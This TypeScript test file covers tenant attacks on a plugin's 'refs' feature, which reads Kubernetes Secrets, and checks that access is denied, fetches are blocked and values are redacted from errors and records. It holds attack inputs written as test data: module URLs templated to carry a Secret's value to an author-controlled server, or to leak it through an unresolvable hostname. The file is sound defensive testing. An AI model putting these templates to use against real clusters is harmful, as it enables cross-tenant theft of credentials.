// Tenant attacks through `refs` (issue 11 item 1): an Application author names Secrets in `refs` and places their values
// in the module URL. A ref reads only in the app's destination namespace, or where the admin's JETWAY_LOOKUP_CEILING
// admits it, and its value never shows in what jetway writes (../shared/argocd-contract.md: stderr becomes the ComparisonError).

import assert from 'node:assert/strict';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { startApiServer, type FakeApiServer } from '../support/apiserver.js';
import { jetwayLine, startSidecar, tenantApp, type Sidecar } from '../support/sidecar.js';
import { startHttpServer, type TestServer } from '../support/http-server.js';
import { watModule } from '../support/wat.js';
import { until } from '../refresher/support.js';

let api: FakeApiServer;
let sidecar: Sidecar;
let modules: TestServer;

before(async () => {
  api = await startApiServer({ namespaces: ['argocd', 'team-a', 'other-team'] });
  // refs read the cluster through jetway serve, the only holder of credentials (issue 14)
  sidecar = await startSidecar({ 'app/README': 'an app whose module comes from a URL\n' }, {}, { api });
  const flight = await watModule('yaml-stages');
  modules = await startHttpServer((request, response) => {
    response.end(request.url?.startsWith('/flight.wasm') ? flight : 'no');
  });
});

after(async () => {
  await modules.close();
  await sidecar.close();
  await api.close();
});

const secret = (namespace: string, name: string, data: Record<string, string>) =>
  api.put({ apiVersion: 'v1', kind: 'Secret', metadata: { name, namespace }, data: Object.fromEntries(Object.entries(data).map(([k, v]) => [k, Buffer.from(v).toString('base64')])) });

/** Files under `dir` whose bytes contain `value`. */
async function filesHolding(dir: string, value: string): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true });
  const files = entries.filter((e) => e.isFile()).map((e) => join(e.parentPath, e.name));
  const holding = await Promise.all(files.map(async (file) => ((await readFile(file)).includes(value) ? [file] : [])));
  return holding.flat();
}

const secretReads = (namespace: string, name: string) => api.requests.filter((r) => r.path === `/api/v1/namespaces/${namespace}/secrets/${name}`).length;

test("an app author reads another namespace's Secret through refs and sends it to their own server", async () => {
  secret('other-team', 'db-password', { password: 'hunter2' });
  const parameters = [
    { name: 'refs', map: { pw: JSON.stringify({ secret: 'db-password', key: 'password', namespace: 'other-team' }) } },
    { name: 'wasm', string: `${modules.url}/flight.wasm?stolen={{ .pw }}` },
  ];
  await assert.rejects(sidecar.generate(tenantApp('thief', 'app', parameters)), (error: unknown) => {
    assert.match(
      jetwayLine(error),
      /^jetway: generate for Application thief failed: parameter refs\.pw: got "other-team\/db-password", expected a Secret in the destination namespace team-a; Secrets elsewhere only where the admin ceiling JETWAY_LOOKUP_CEILING admits them/,
    );
    return true;
  });
  assert.equal(secretReads('other-team', 'db-password'), 0, 'the Secret was never read');
  assert.deepEqual(modules.requests, [], 'nothing was sent anywhere');

  // the admin can grant exactly that Secret; then the same Application renders. JETWAY_MODULE_ALLOW judges the URL
  // with the value filled in (this glob admits only that one expanded URL, never the template)
  const allow = `${modules.url}/flight.wasm[?]stolen=hunter2`;
  // the same settings on both containers, as deploy/ sets them (serve declines a plugin container whose policy differs)
  const granted = await startSidecar({ 'app/README': 'an app whose module comes from a URL\n' }, { JETWAY_LOOKUP_CEILING: 'other-team/Secret:db-password', JETWAY_MODULE_ALLOW: allow }, { api });
  after(() => granted.close());
  const manifests = await granted.generate(tenantApp('granted', 'app', parameters));
  assert.equal(manifests.length, 2);
  assert.deepEqual(modules.requests, ['/flight.wasm?stolen=hunter2']);
  // the module cache indexed the filled-in URL without writing the value anywhere under JETWAY_CACHE_DIR
  assert.ok((await readdir(join(granted.cacheDir, 'refs'))).length > 0, 'the URL was indexed');
  assert.deepEqual(await filesHolding(granted.cacheDir, 'hunter2'), []);
  secret('other-team', 'db-password', { password: 'hunter3' });
  await assert.rejects(granted.generate(tenantApp('granted-other-value', 'app', parameters)), (error: unknown) => {
    assert.match(jetwayLine(error), /module http:\/\/[\d.:]+\/flight\.wasm\?stolen=\{\{ \.pw \}\} is not in the allow-list \(JETWAY_MODULE_ALLOW\)/);
    assert.doesNotMatch(jetwayLine(error), /hunter3/);
    return true;
  });
  assert.equal(modules.requests.length, 1);
});

test("an app author puts a Secret's value in the module URL's host to read it from the ComparisonError or the run record", async () => {
  secret('team-a', 'registry-token', { token: 'S3cretT0ken' });
  const parameters = [
    { name: 'refs', map: { token: JSON.stringify({ secret: 'registry-token', key: 'token' }) } },
    { name: 'wasm', string: 'http://{{ .token }}.invalid/flight.wasm' },
  ];
  await assert.rejects(sidecar.generate(tenantApp('leaker', 'app', parameters)), (error: unknown) => {
    const line = jetwayLine(error);
    // the resolver names the host lower-cased (getaddrinfo ENOTFOUND s3crett0ken.invalid): no form of the value may show
    assert.doesNotMatch(line, /s3crett0ken/i);
    assert.match(line, /^jetway: generate for Application leaker failed: cannot download module http:\/\/\{\{ \.token \}\}\.invalid\/flight\.wasm: .*\{\{ \.token \}\}\.invalid/);
    return true;
  });
  assert.equal(secretReads('team-a', 'registry-token'), 1);
  // the failed run's record (the service's status and Events), stored by jetway serve, is redacted the same way
  await until('the failed run is recorded', () => api.get('jetway.dev/v1alpha1', 'RunRecord', 'argocd', 'leaker') !== undefined, 10_000);
  const record = api.get('jetway.dev/v1alpha1', 'RunRecord', 'argocd', 'leaker')!;
  const spec = record['spec'] as Record<string, unknown>;
  assert.equal(spec['outcome'], 'failed');
  assert.match(String(spec['statusMessage']), /\{\{ \.token \}\}\.invalid/);
  assert.doesNotMatch(JSON.stringify(record), /s3crett0ken/i);
});

test('with jetway serve up but declining the whole generate (a setting differs between the containers), refs fail in one line saying what the admin must fix', async () => {
  secret('team-a', 'declined-token', { token: 'D3clinedT0ken' });
  const parameters = [
    { name: 'refs', map: { token: JSON.stringify({ secret: 'declined-token', key: 'token' }) } },
    { name: 'wasm', string: `${modules.url}/flight.wasm?t={{ .token }}` },
  ];
  const fetched = modules.requests.length;
  // the plugin container holds no credentials (issue 14): its generate cannot read the Secret itself
  await assert.rejects(sidecar.withEnv({ JETWAY_MAX_MEMORY_MIB: '512' }).generate(tenantApp('declined', 'app', parameters)), (error: unknown) => {
    assert.equal(
      jetwayLine(error),
      'jetway: generate for Application declined failed: refs and lookups read the cluster only through jetway serve, which declined this generate: ' +
        'JETWAY_MAX_MEMORY_MIB differs between the plugin container and jetway serve: set the same JETWAY_* settings on both; ' +
        'once an admin has fixed that (the jetway containers, deploy/), refresh the app',
    );
    return true;
  });
  assert.equal(secretReads('team-a', 'declined-token'), 0, 'the Secret was not read');
  assert.equal(modules.requests.length, fetched, 'no module was fetched');
});
